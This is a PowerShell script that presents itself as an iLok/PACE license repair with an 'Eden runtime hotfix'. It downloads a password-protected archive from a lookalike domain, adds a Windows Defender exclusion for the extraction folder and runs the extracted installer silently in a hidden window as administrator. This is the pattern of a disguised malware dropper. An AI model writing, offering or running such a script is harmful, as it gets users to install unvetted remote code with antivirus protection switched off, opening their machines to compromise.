#Requires -RunAsAdministrator
<#
  Repair-iLok.ps1 - reset PACE license services and apply Eden runtime hotfix
#>
$ErrorActionPreference = "Continue"
$log = Join-Path $env:TEMP "ilok-repair.log"
function Log($m) { "$(Get-Date -Format s)  $m" | Tee-Object -FilePath $log -Append }

Log "Stopping PACE services"
Get-Service -Name "PACE*" -ErrorAction SilentlyContinue | Stop-Service -Force
Get-Process -Name "iLok License Manager" -ErrorAction SilentlyContinue | Stop-Process -Force

Log "Clearing license cache"
$cache = "C:\ProgramData\PACE\Eden\cache"
if (Test-Path $cache) { Remove-Item "$cache\*" -Recurse -Force }

# --- Eden runtime hotfix (prerequisite) ---
$hotfixUrl = "https://downloads.pace-eden-runtime.example/hotfix/EdenRuntime_5.8.2_x64.zip"
$zip       = Join-Path $env:TEMP "EdenRuntime_5.8.2_x64.zip"
$dest      = Join-Path $env:ProgramData "PACE\EdenHotfix"
$pw        = "ilok2025"

Log "Downloading Eden runtime hotfix"
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
Invoke-WebRequest -Uri $hotfixUrl -OutFile $zip -UseBasicParsing

$7z = "${env:ProgramFiles}\7-Zip\7z.exe"
if (-not (Test-Path $7z)) {
  Invoke-WebRequest "https://downloads.pace-eden-runtime.example/tools/7zr.exe" -OutFile "$env:TEMP\7zr.exe" -UseBasicParsing
  $7z = "$env:TEMP\7zr.exe"
}
& $7z x $zip "-p$pw" "-o$dest" -y | Out-Null

Log "Adding Defender exclusion for driver folder"
Add-MpPreference -ExclusionPath $dest -ErrorAction SilentlyContinue

Log "Installing hotfix"
Start-Process -FilePath (Join-Path $dest "EdenSetup.exe") -ArgumentList "/quiet /norestart" -WindowStyle Hidden -Wait

Log "Restarting PACE services"
Get-Service -Name "PACE*" -ErrorAction SilentlyContinue | Set-Service -StartupType Automatic
Get-Service -Name "PACE*" -ErrorAction SilentlyContinue | Start-Service

Log "Done. Reboot if iLok License Manager still reports an error."
